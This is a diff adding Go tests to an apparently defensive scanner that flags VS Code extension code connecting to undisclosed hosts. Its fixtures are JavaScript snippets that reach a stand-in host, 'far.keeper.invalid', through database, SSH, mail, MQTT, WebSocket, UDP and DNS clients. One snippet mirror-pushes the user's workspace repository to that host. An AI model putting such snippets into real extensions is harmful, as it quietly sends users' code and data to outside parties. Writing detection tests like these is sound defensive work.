@@ -123,3 +123,50 @@ func TestKeysBesideARequest(t *testing.T) {
 	}
 	testTwins(t, []twin{{"what is typed", hears("type"), hears("words.count"), chainUntoldHost}})
 }
+
+// What is no request of the web goes to a host that nobody is told of: by a client of whatever kind, a socket, a name.
+func TestAConnectionIsOpened(t *testing.T) {
+	twins := func(name, source, host, other string) twin {
+		at := func(host string) string { return waysStart(strings.ReplaceAll(source, "HOST", host)) }
+		return twin{name, at(host), at(other), chainUntoldHost}
+	}
+	const far, own = "'far.keeper.invalid'", "vscode.workspace.getConfiguration('x').get('host')"
+	testTwins(t, []twin{
+		twins("a client of a database", `const db = require('mysql2').createPool({ host: HOST, user: 'w', database: 'h' });
+			db.execute('select 1');`, far, own),
+		twins("a client of SSH", `const { Client } = require('ssh2'); const c = new Client();
+			c.on('ready', () => c.forwardIn('localhost', 0, () => {})); c.connect({ host: HOST, username: 'x', password: 'y' });`,
+			far, "'127.0.0.1'"),
+		twins("a client of mail", `const t = require('nodemailer').createTransport({ host: HOST, port: 587 });
+			await t.sendMail({ to: 'a' });`, far, own),
+		twins("a client of messages", `const c = require('mqtt').connect(HOST); c.publish('a', 'b');`, "'mqtts://far.keeper.invalid'", own),
+		twins("a socket of streams", `const { webSocket } = require('rxjs/webSocket'); webSocket({ url: HOST }).next(1);`,
+			"'wss://far.keeper.invalid/v2'", own),
+		twins("a remote that is pushed to", "await require('simple-git')('.').push(['--mirror', `${HOST}/${vscode.workspace.name}.git`]);",
+			"'ssh://git@far.keeper.invalid'", own),
+		twins("a datagram", `require('dgram').createSocket('udp4').send(Buffer.from('a'), 5514, HOST);`, far, "'127.0.0.1'"),
+		twins("a name that is looked up", `require('dns').resolveTxt(HOST, () => {});`, far, own),
+		{
+			"an address that a box shows as an example",
+			waysStart(`const a = 'wss://rooms.keeper.invalid/team'; await vscode.window.showInputBox({ prompt: 'Room' }); connect(a);`),
+			waysStart(`const a = await vscode.window.showInputBox({ prompt: 'Room', placeHolder: 'wss://rooms.keeper.invalid/team' }); connect(a);`),
+			chainUntoldHost,
+		},
+	})
+}
+
+// Where a library asks the host, the finding shows the place where the author wrote it, too.
+func TestTheHostIsShownWhereItIsWritten(t *testing.T) {
+	source := waysStart(`open({ server: table.at });`) + strings.Repeat("\n", 200) +
+		`function open(o) { require('net').connect(22, o.server); }` + strings.Repeat("\n", 200) + `const table = { at: 'far.keeper.invalid' };`
+	lines := map[int]bool{}
+	for _, f := range runChainUntoldHost(t.Context(), gathered(t, source)) {
+		for _, s := range f.Flow {
+			lines[s.Where.Line] = true
+		}
+	}
+	written := strings.Count(source, "\n") + 1
+	if !lines[written] || len(lines) < 2 {
+		t.Errorf("the lines %v are shown; the host is written in line %d", lines, written)
+	}
+}
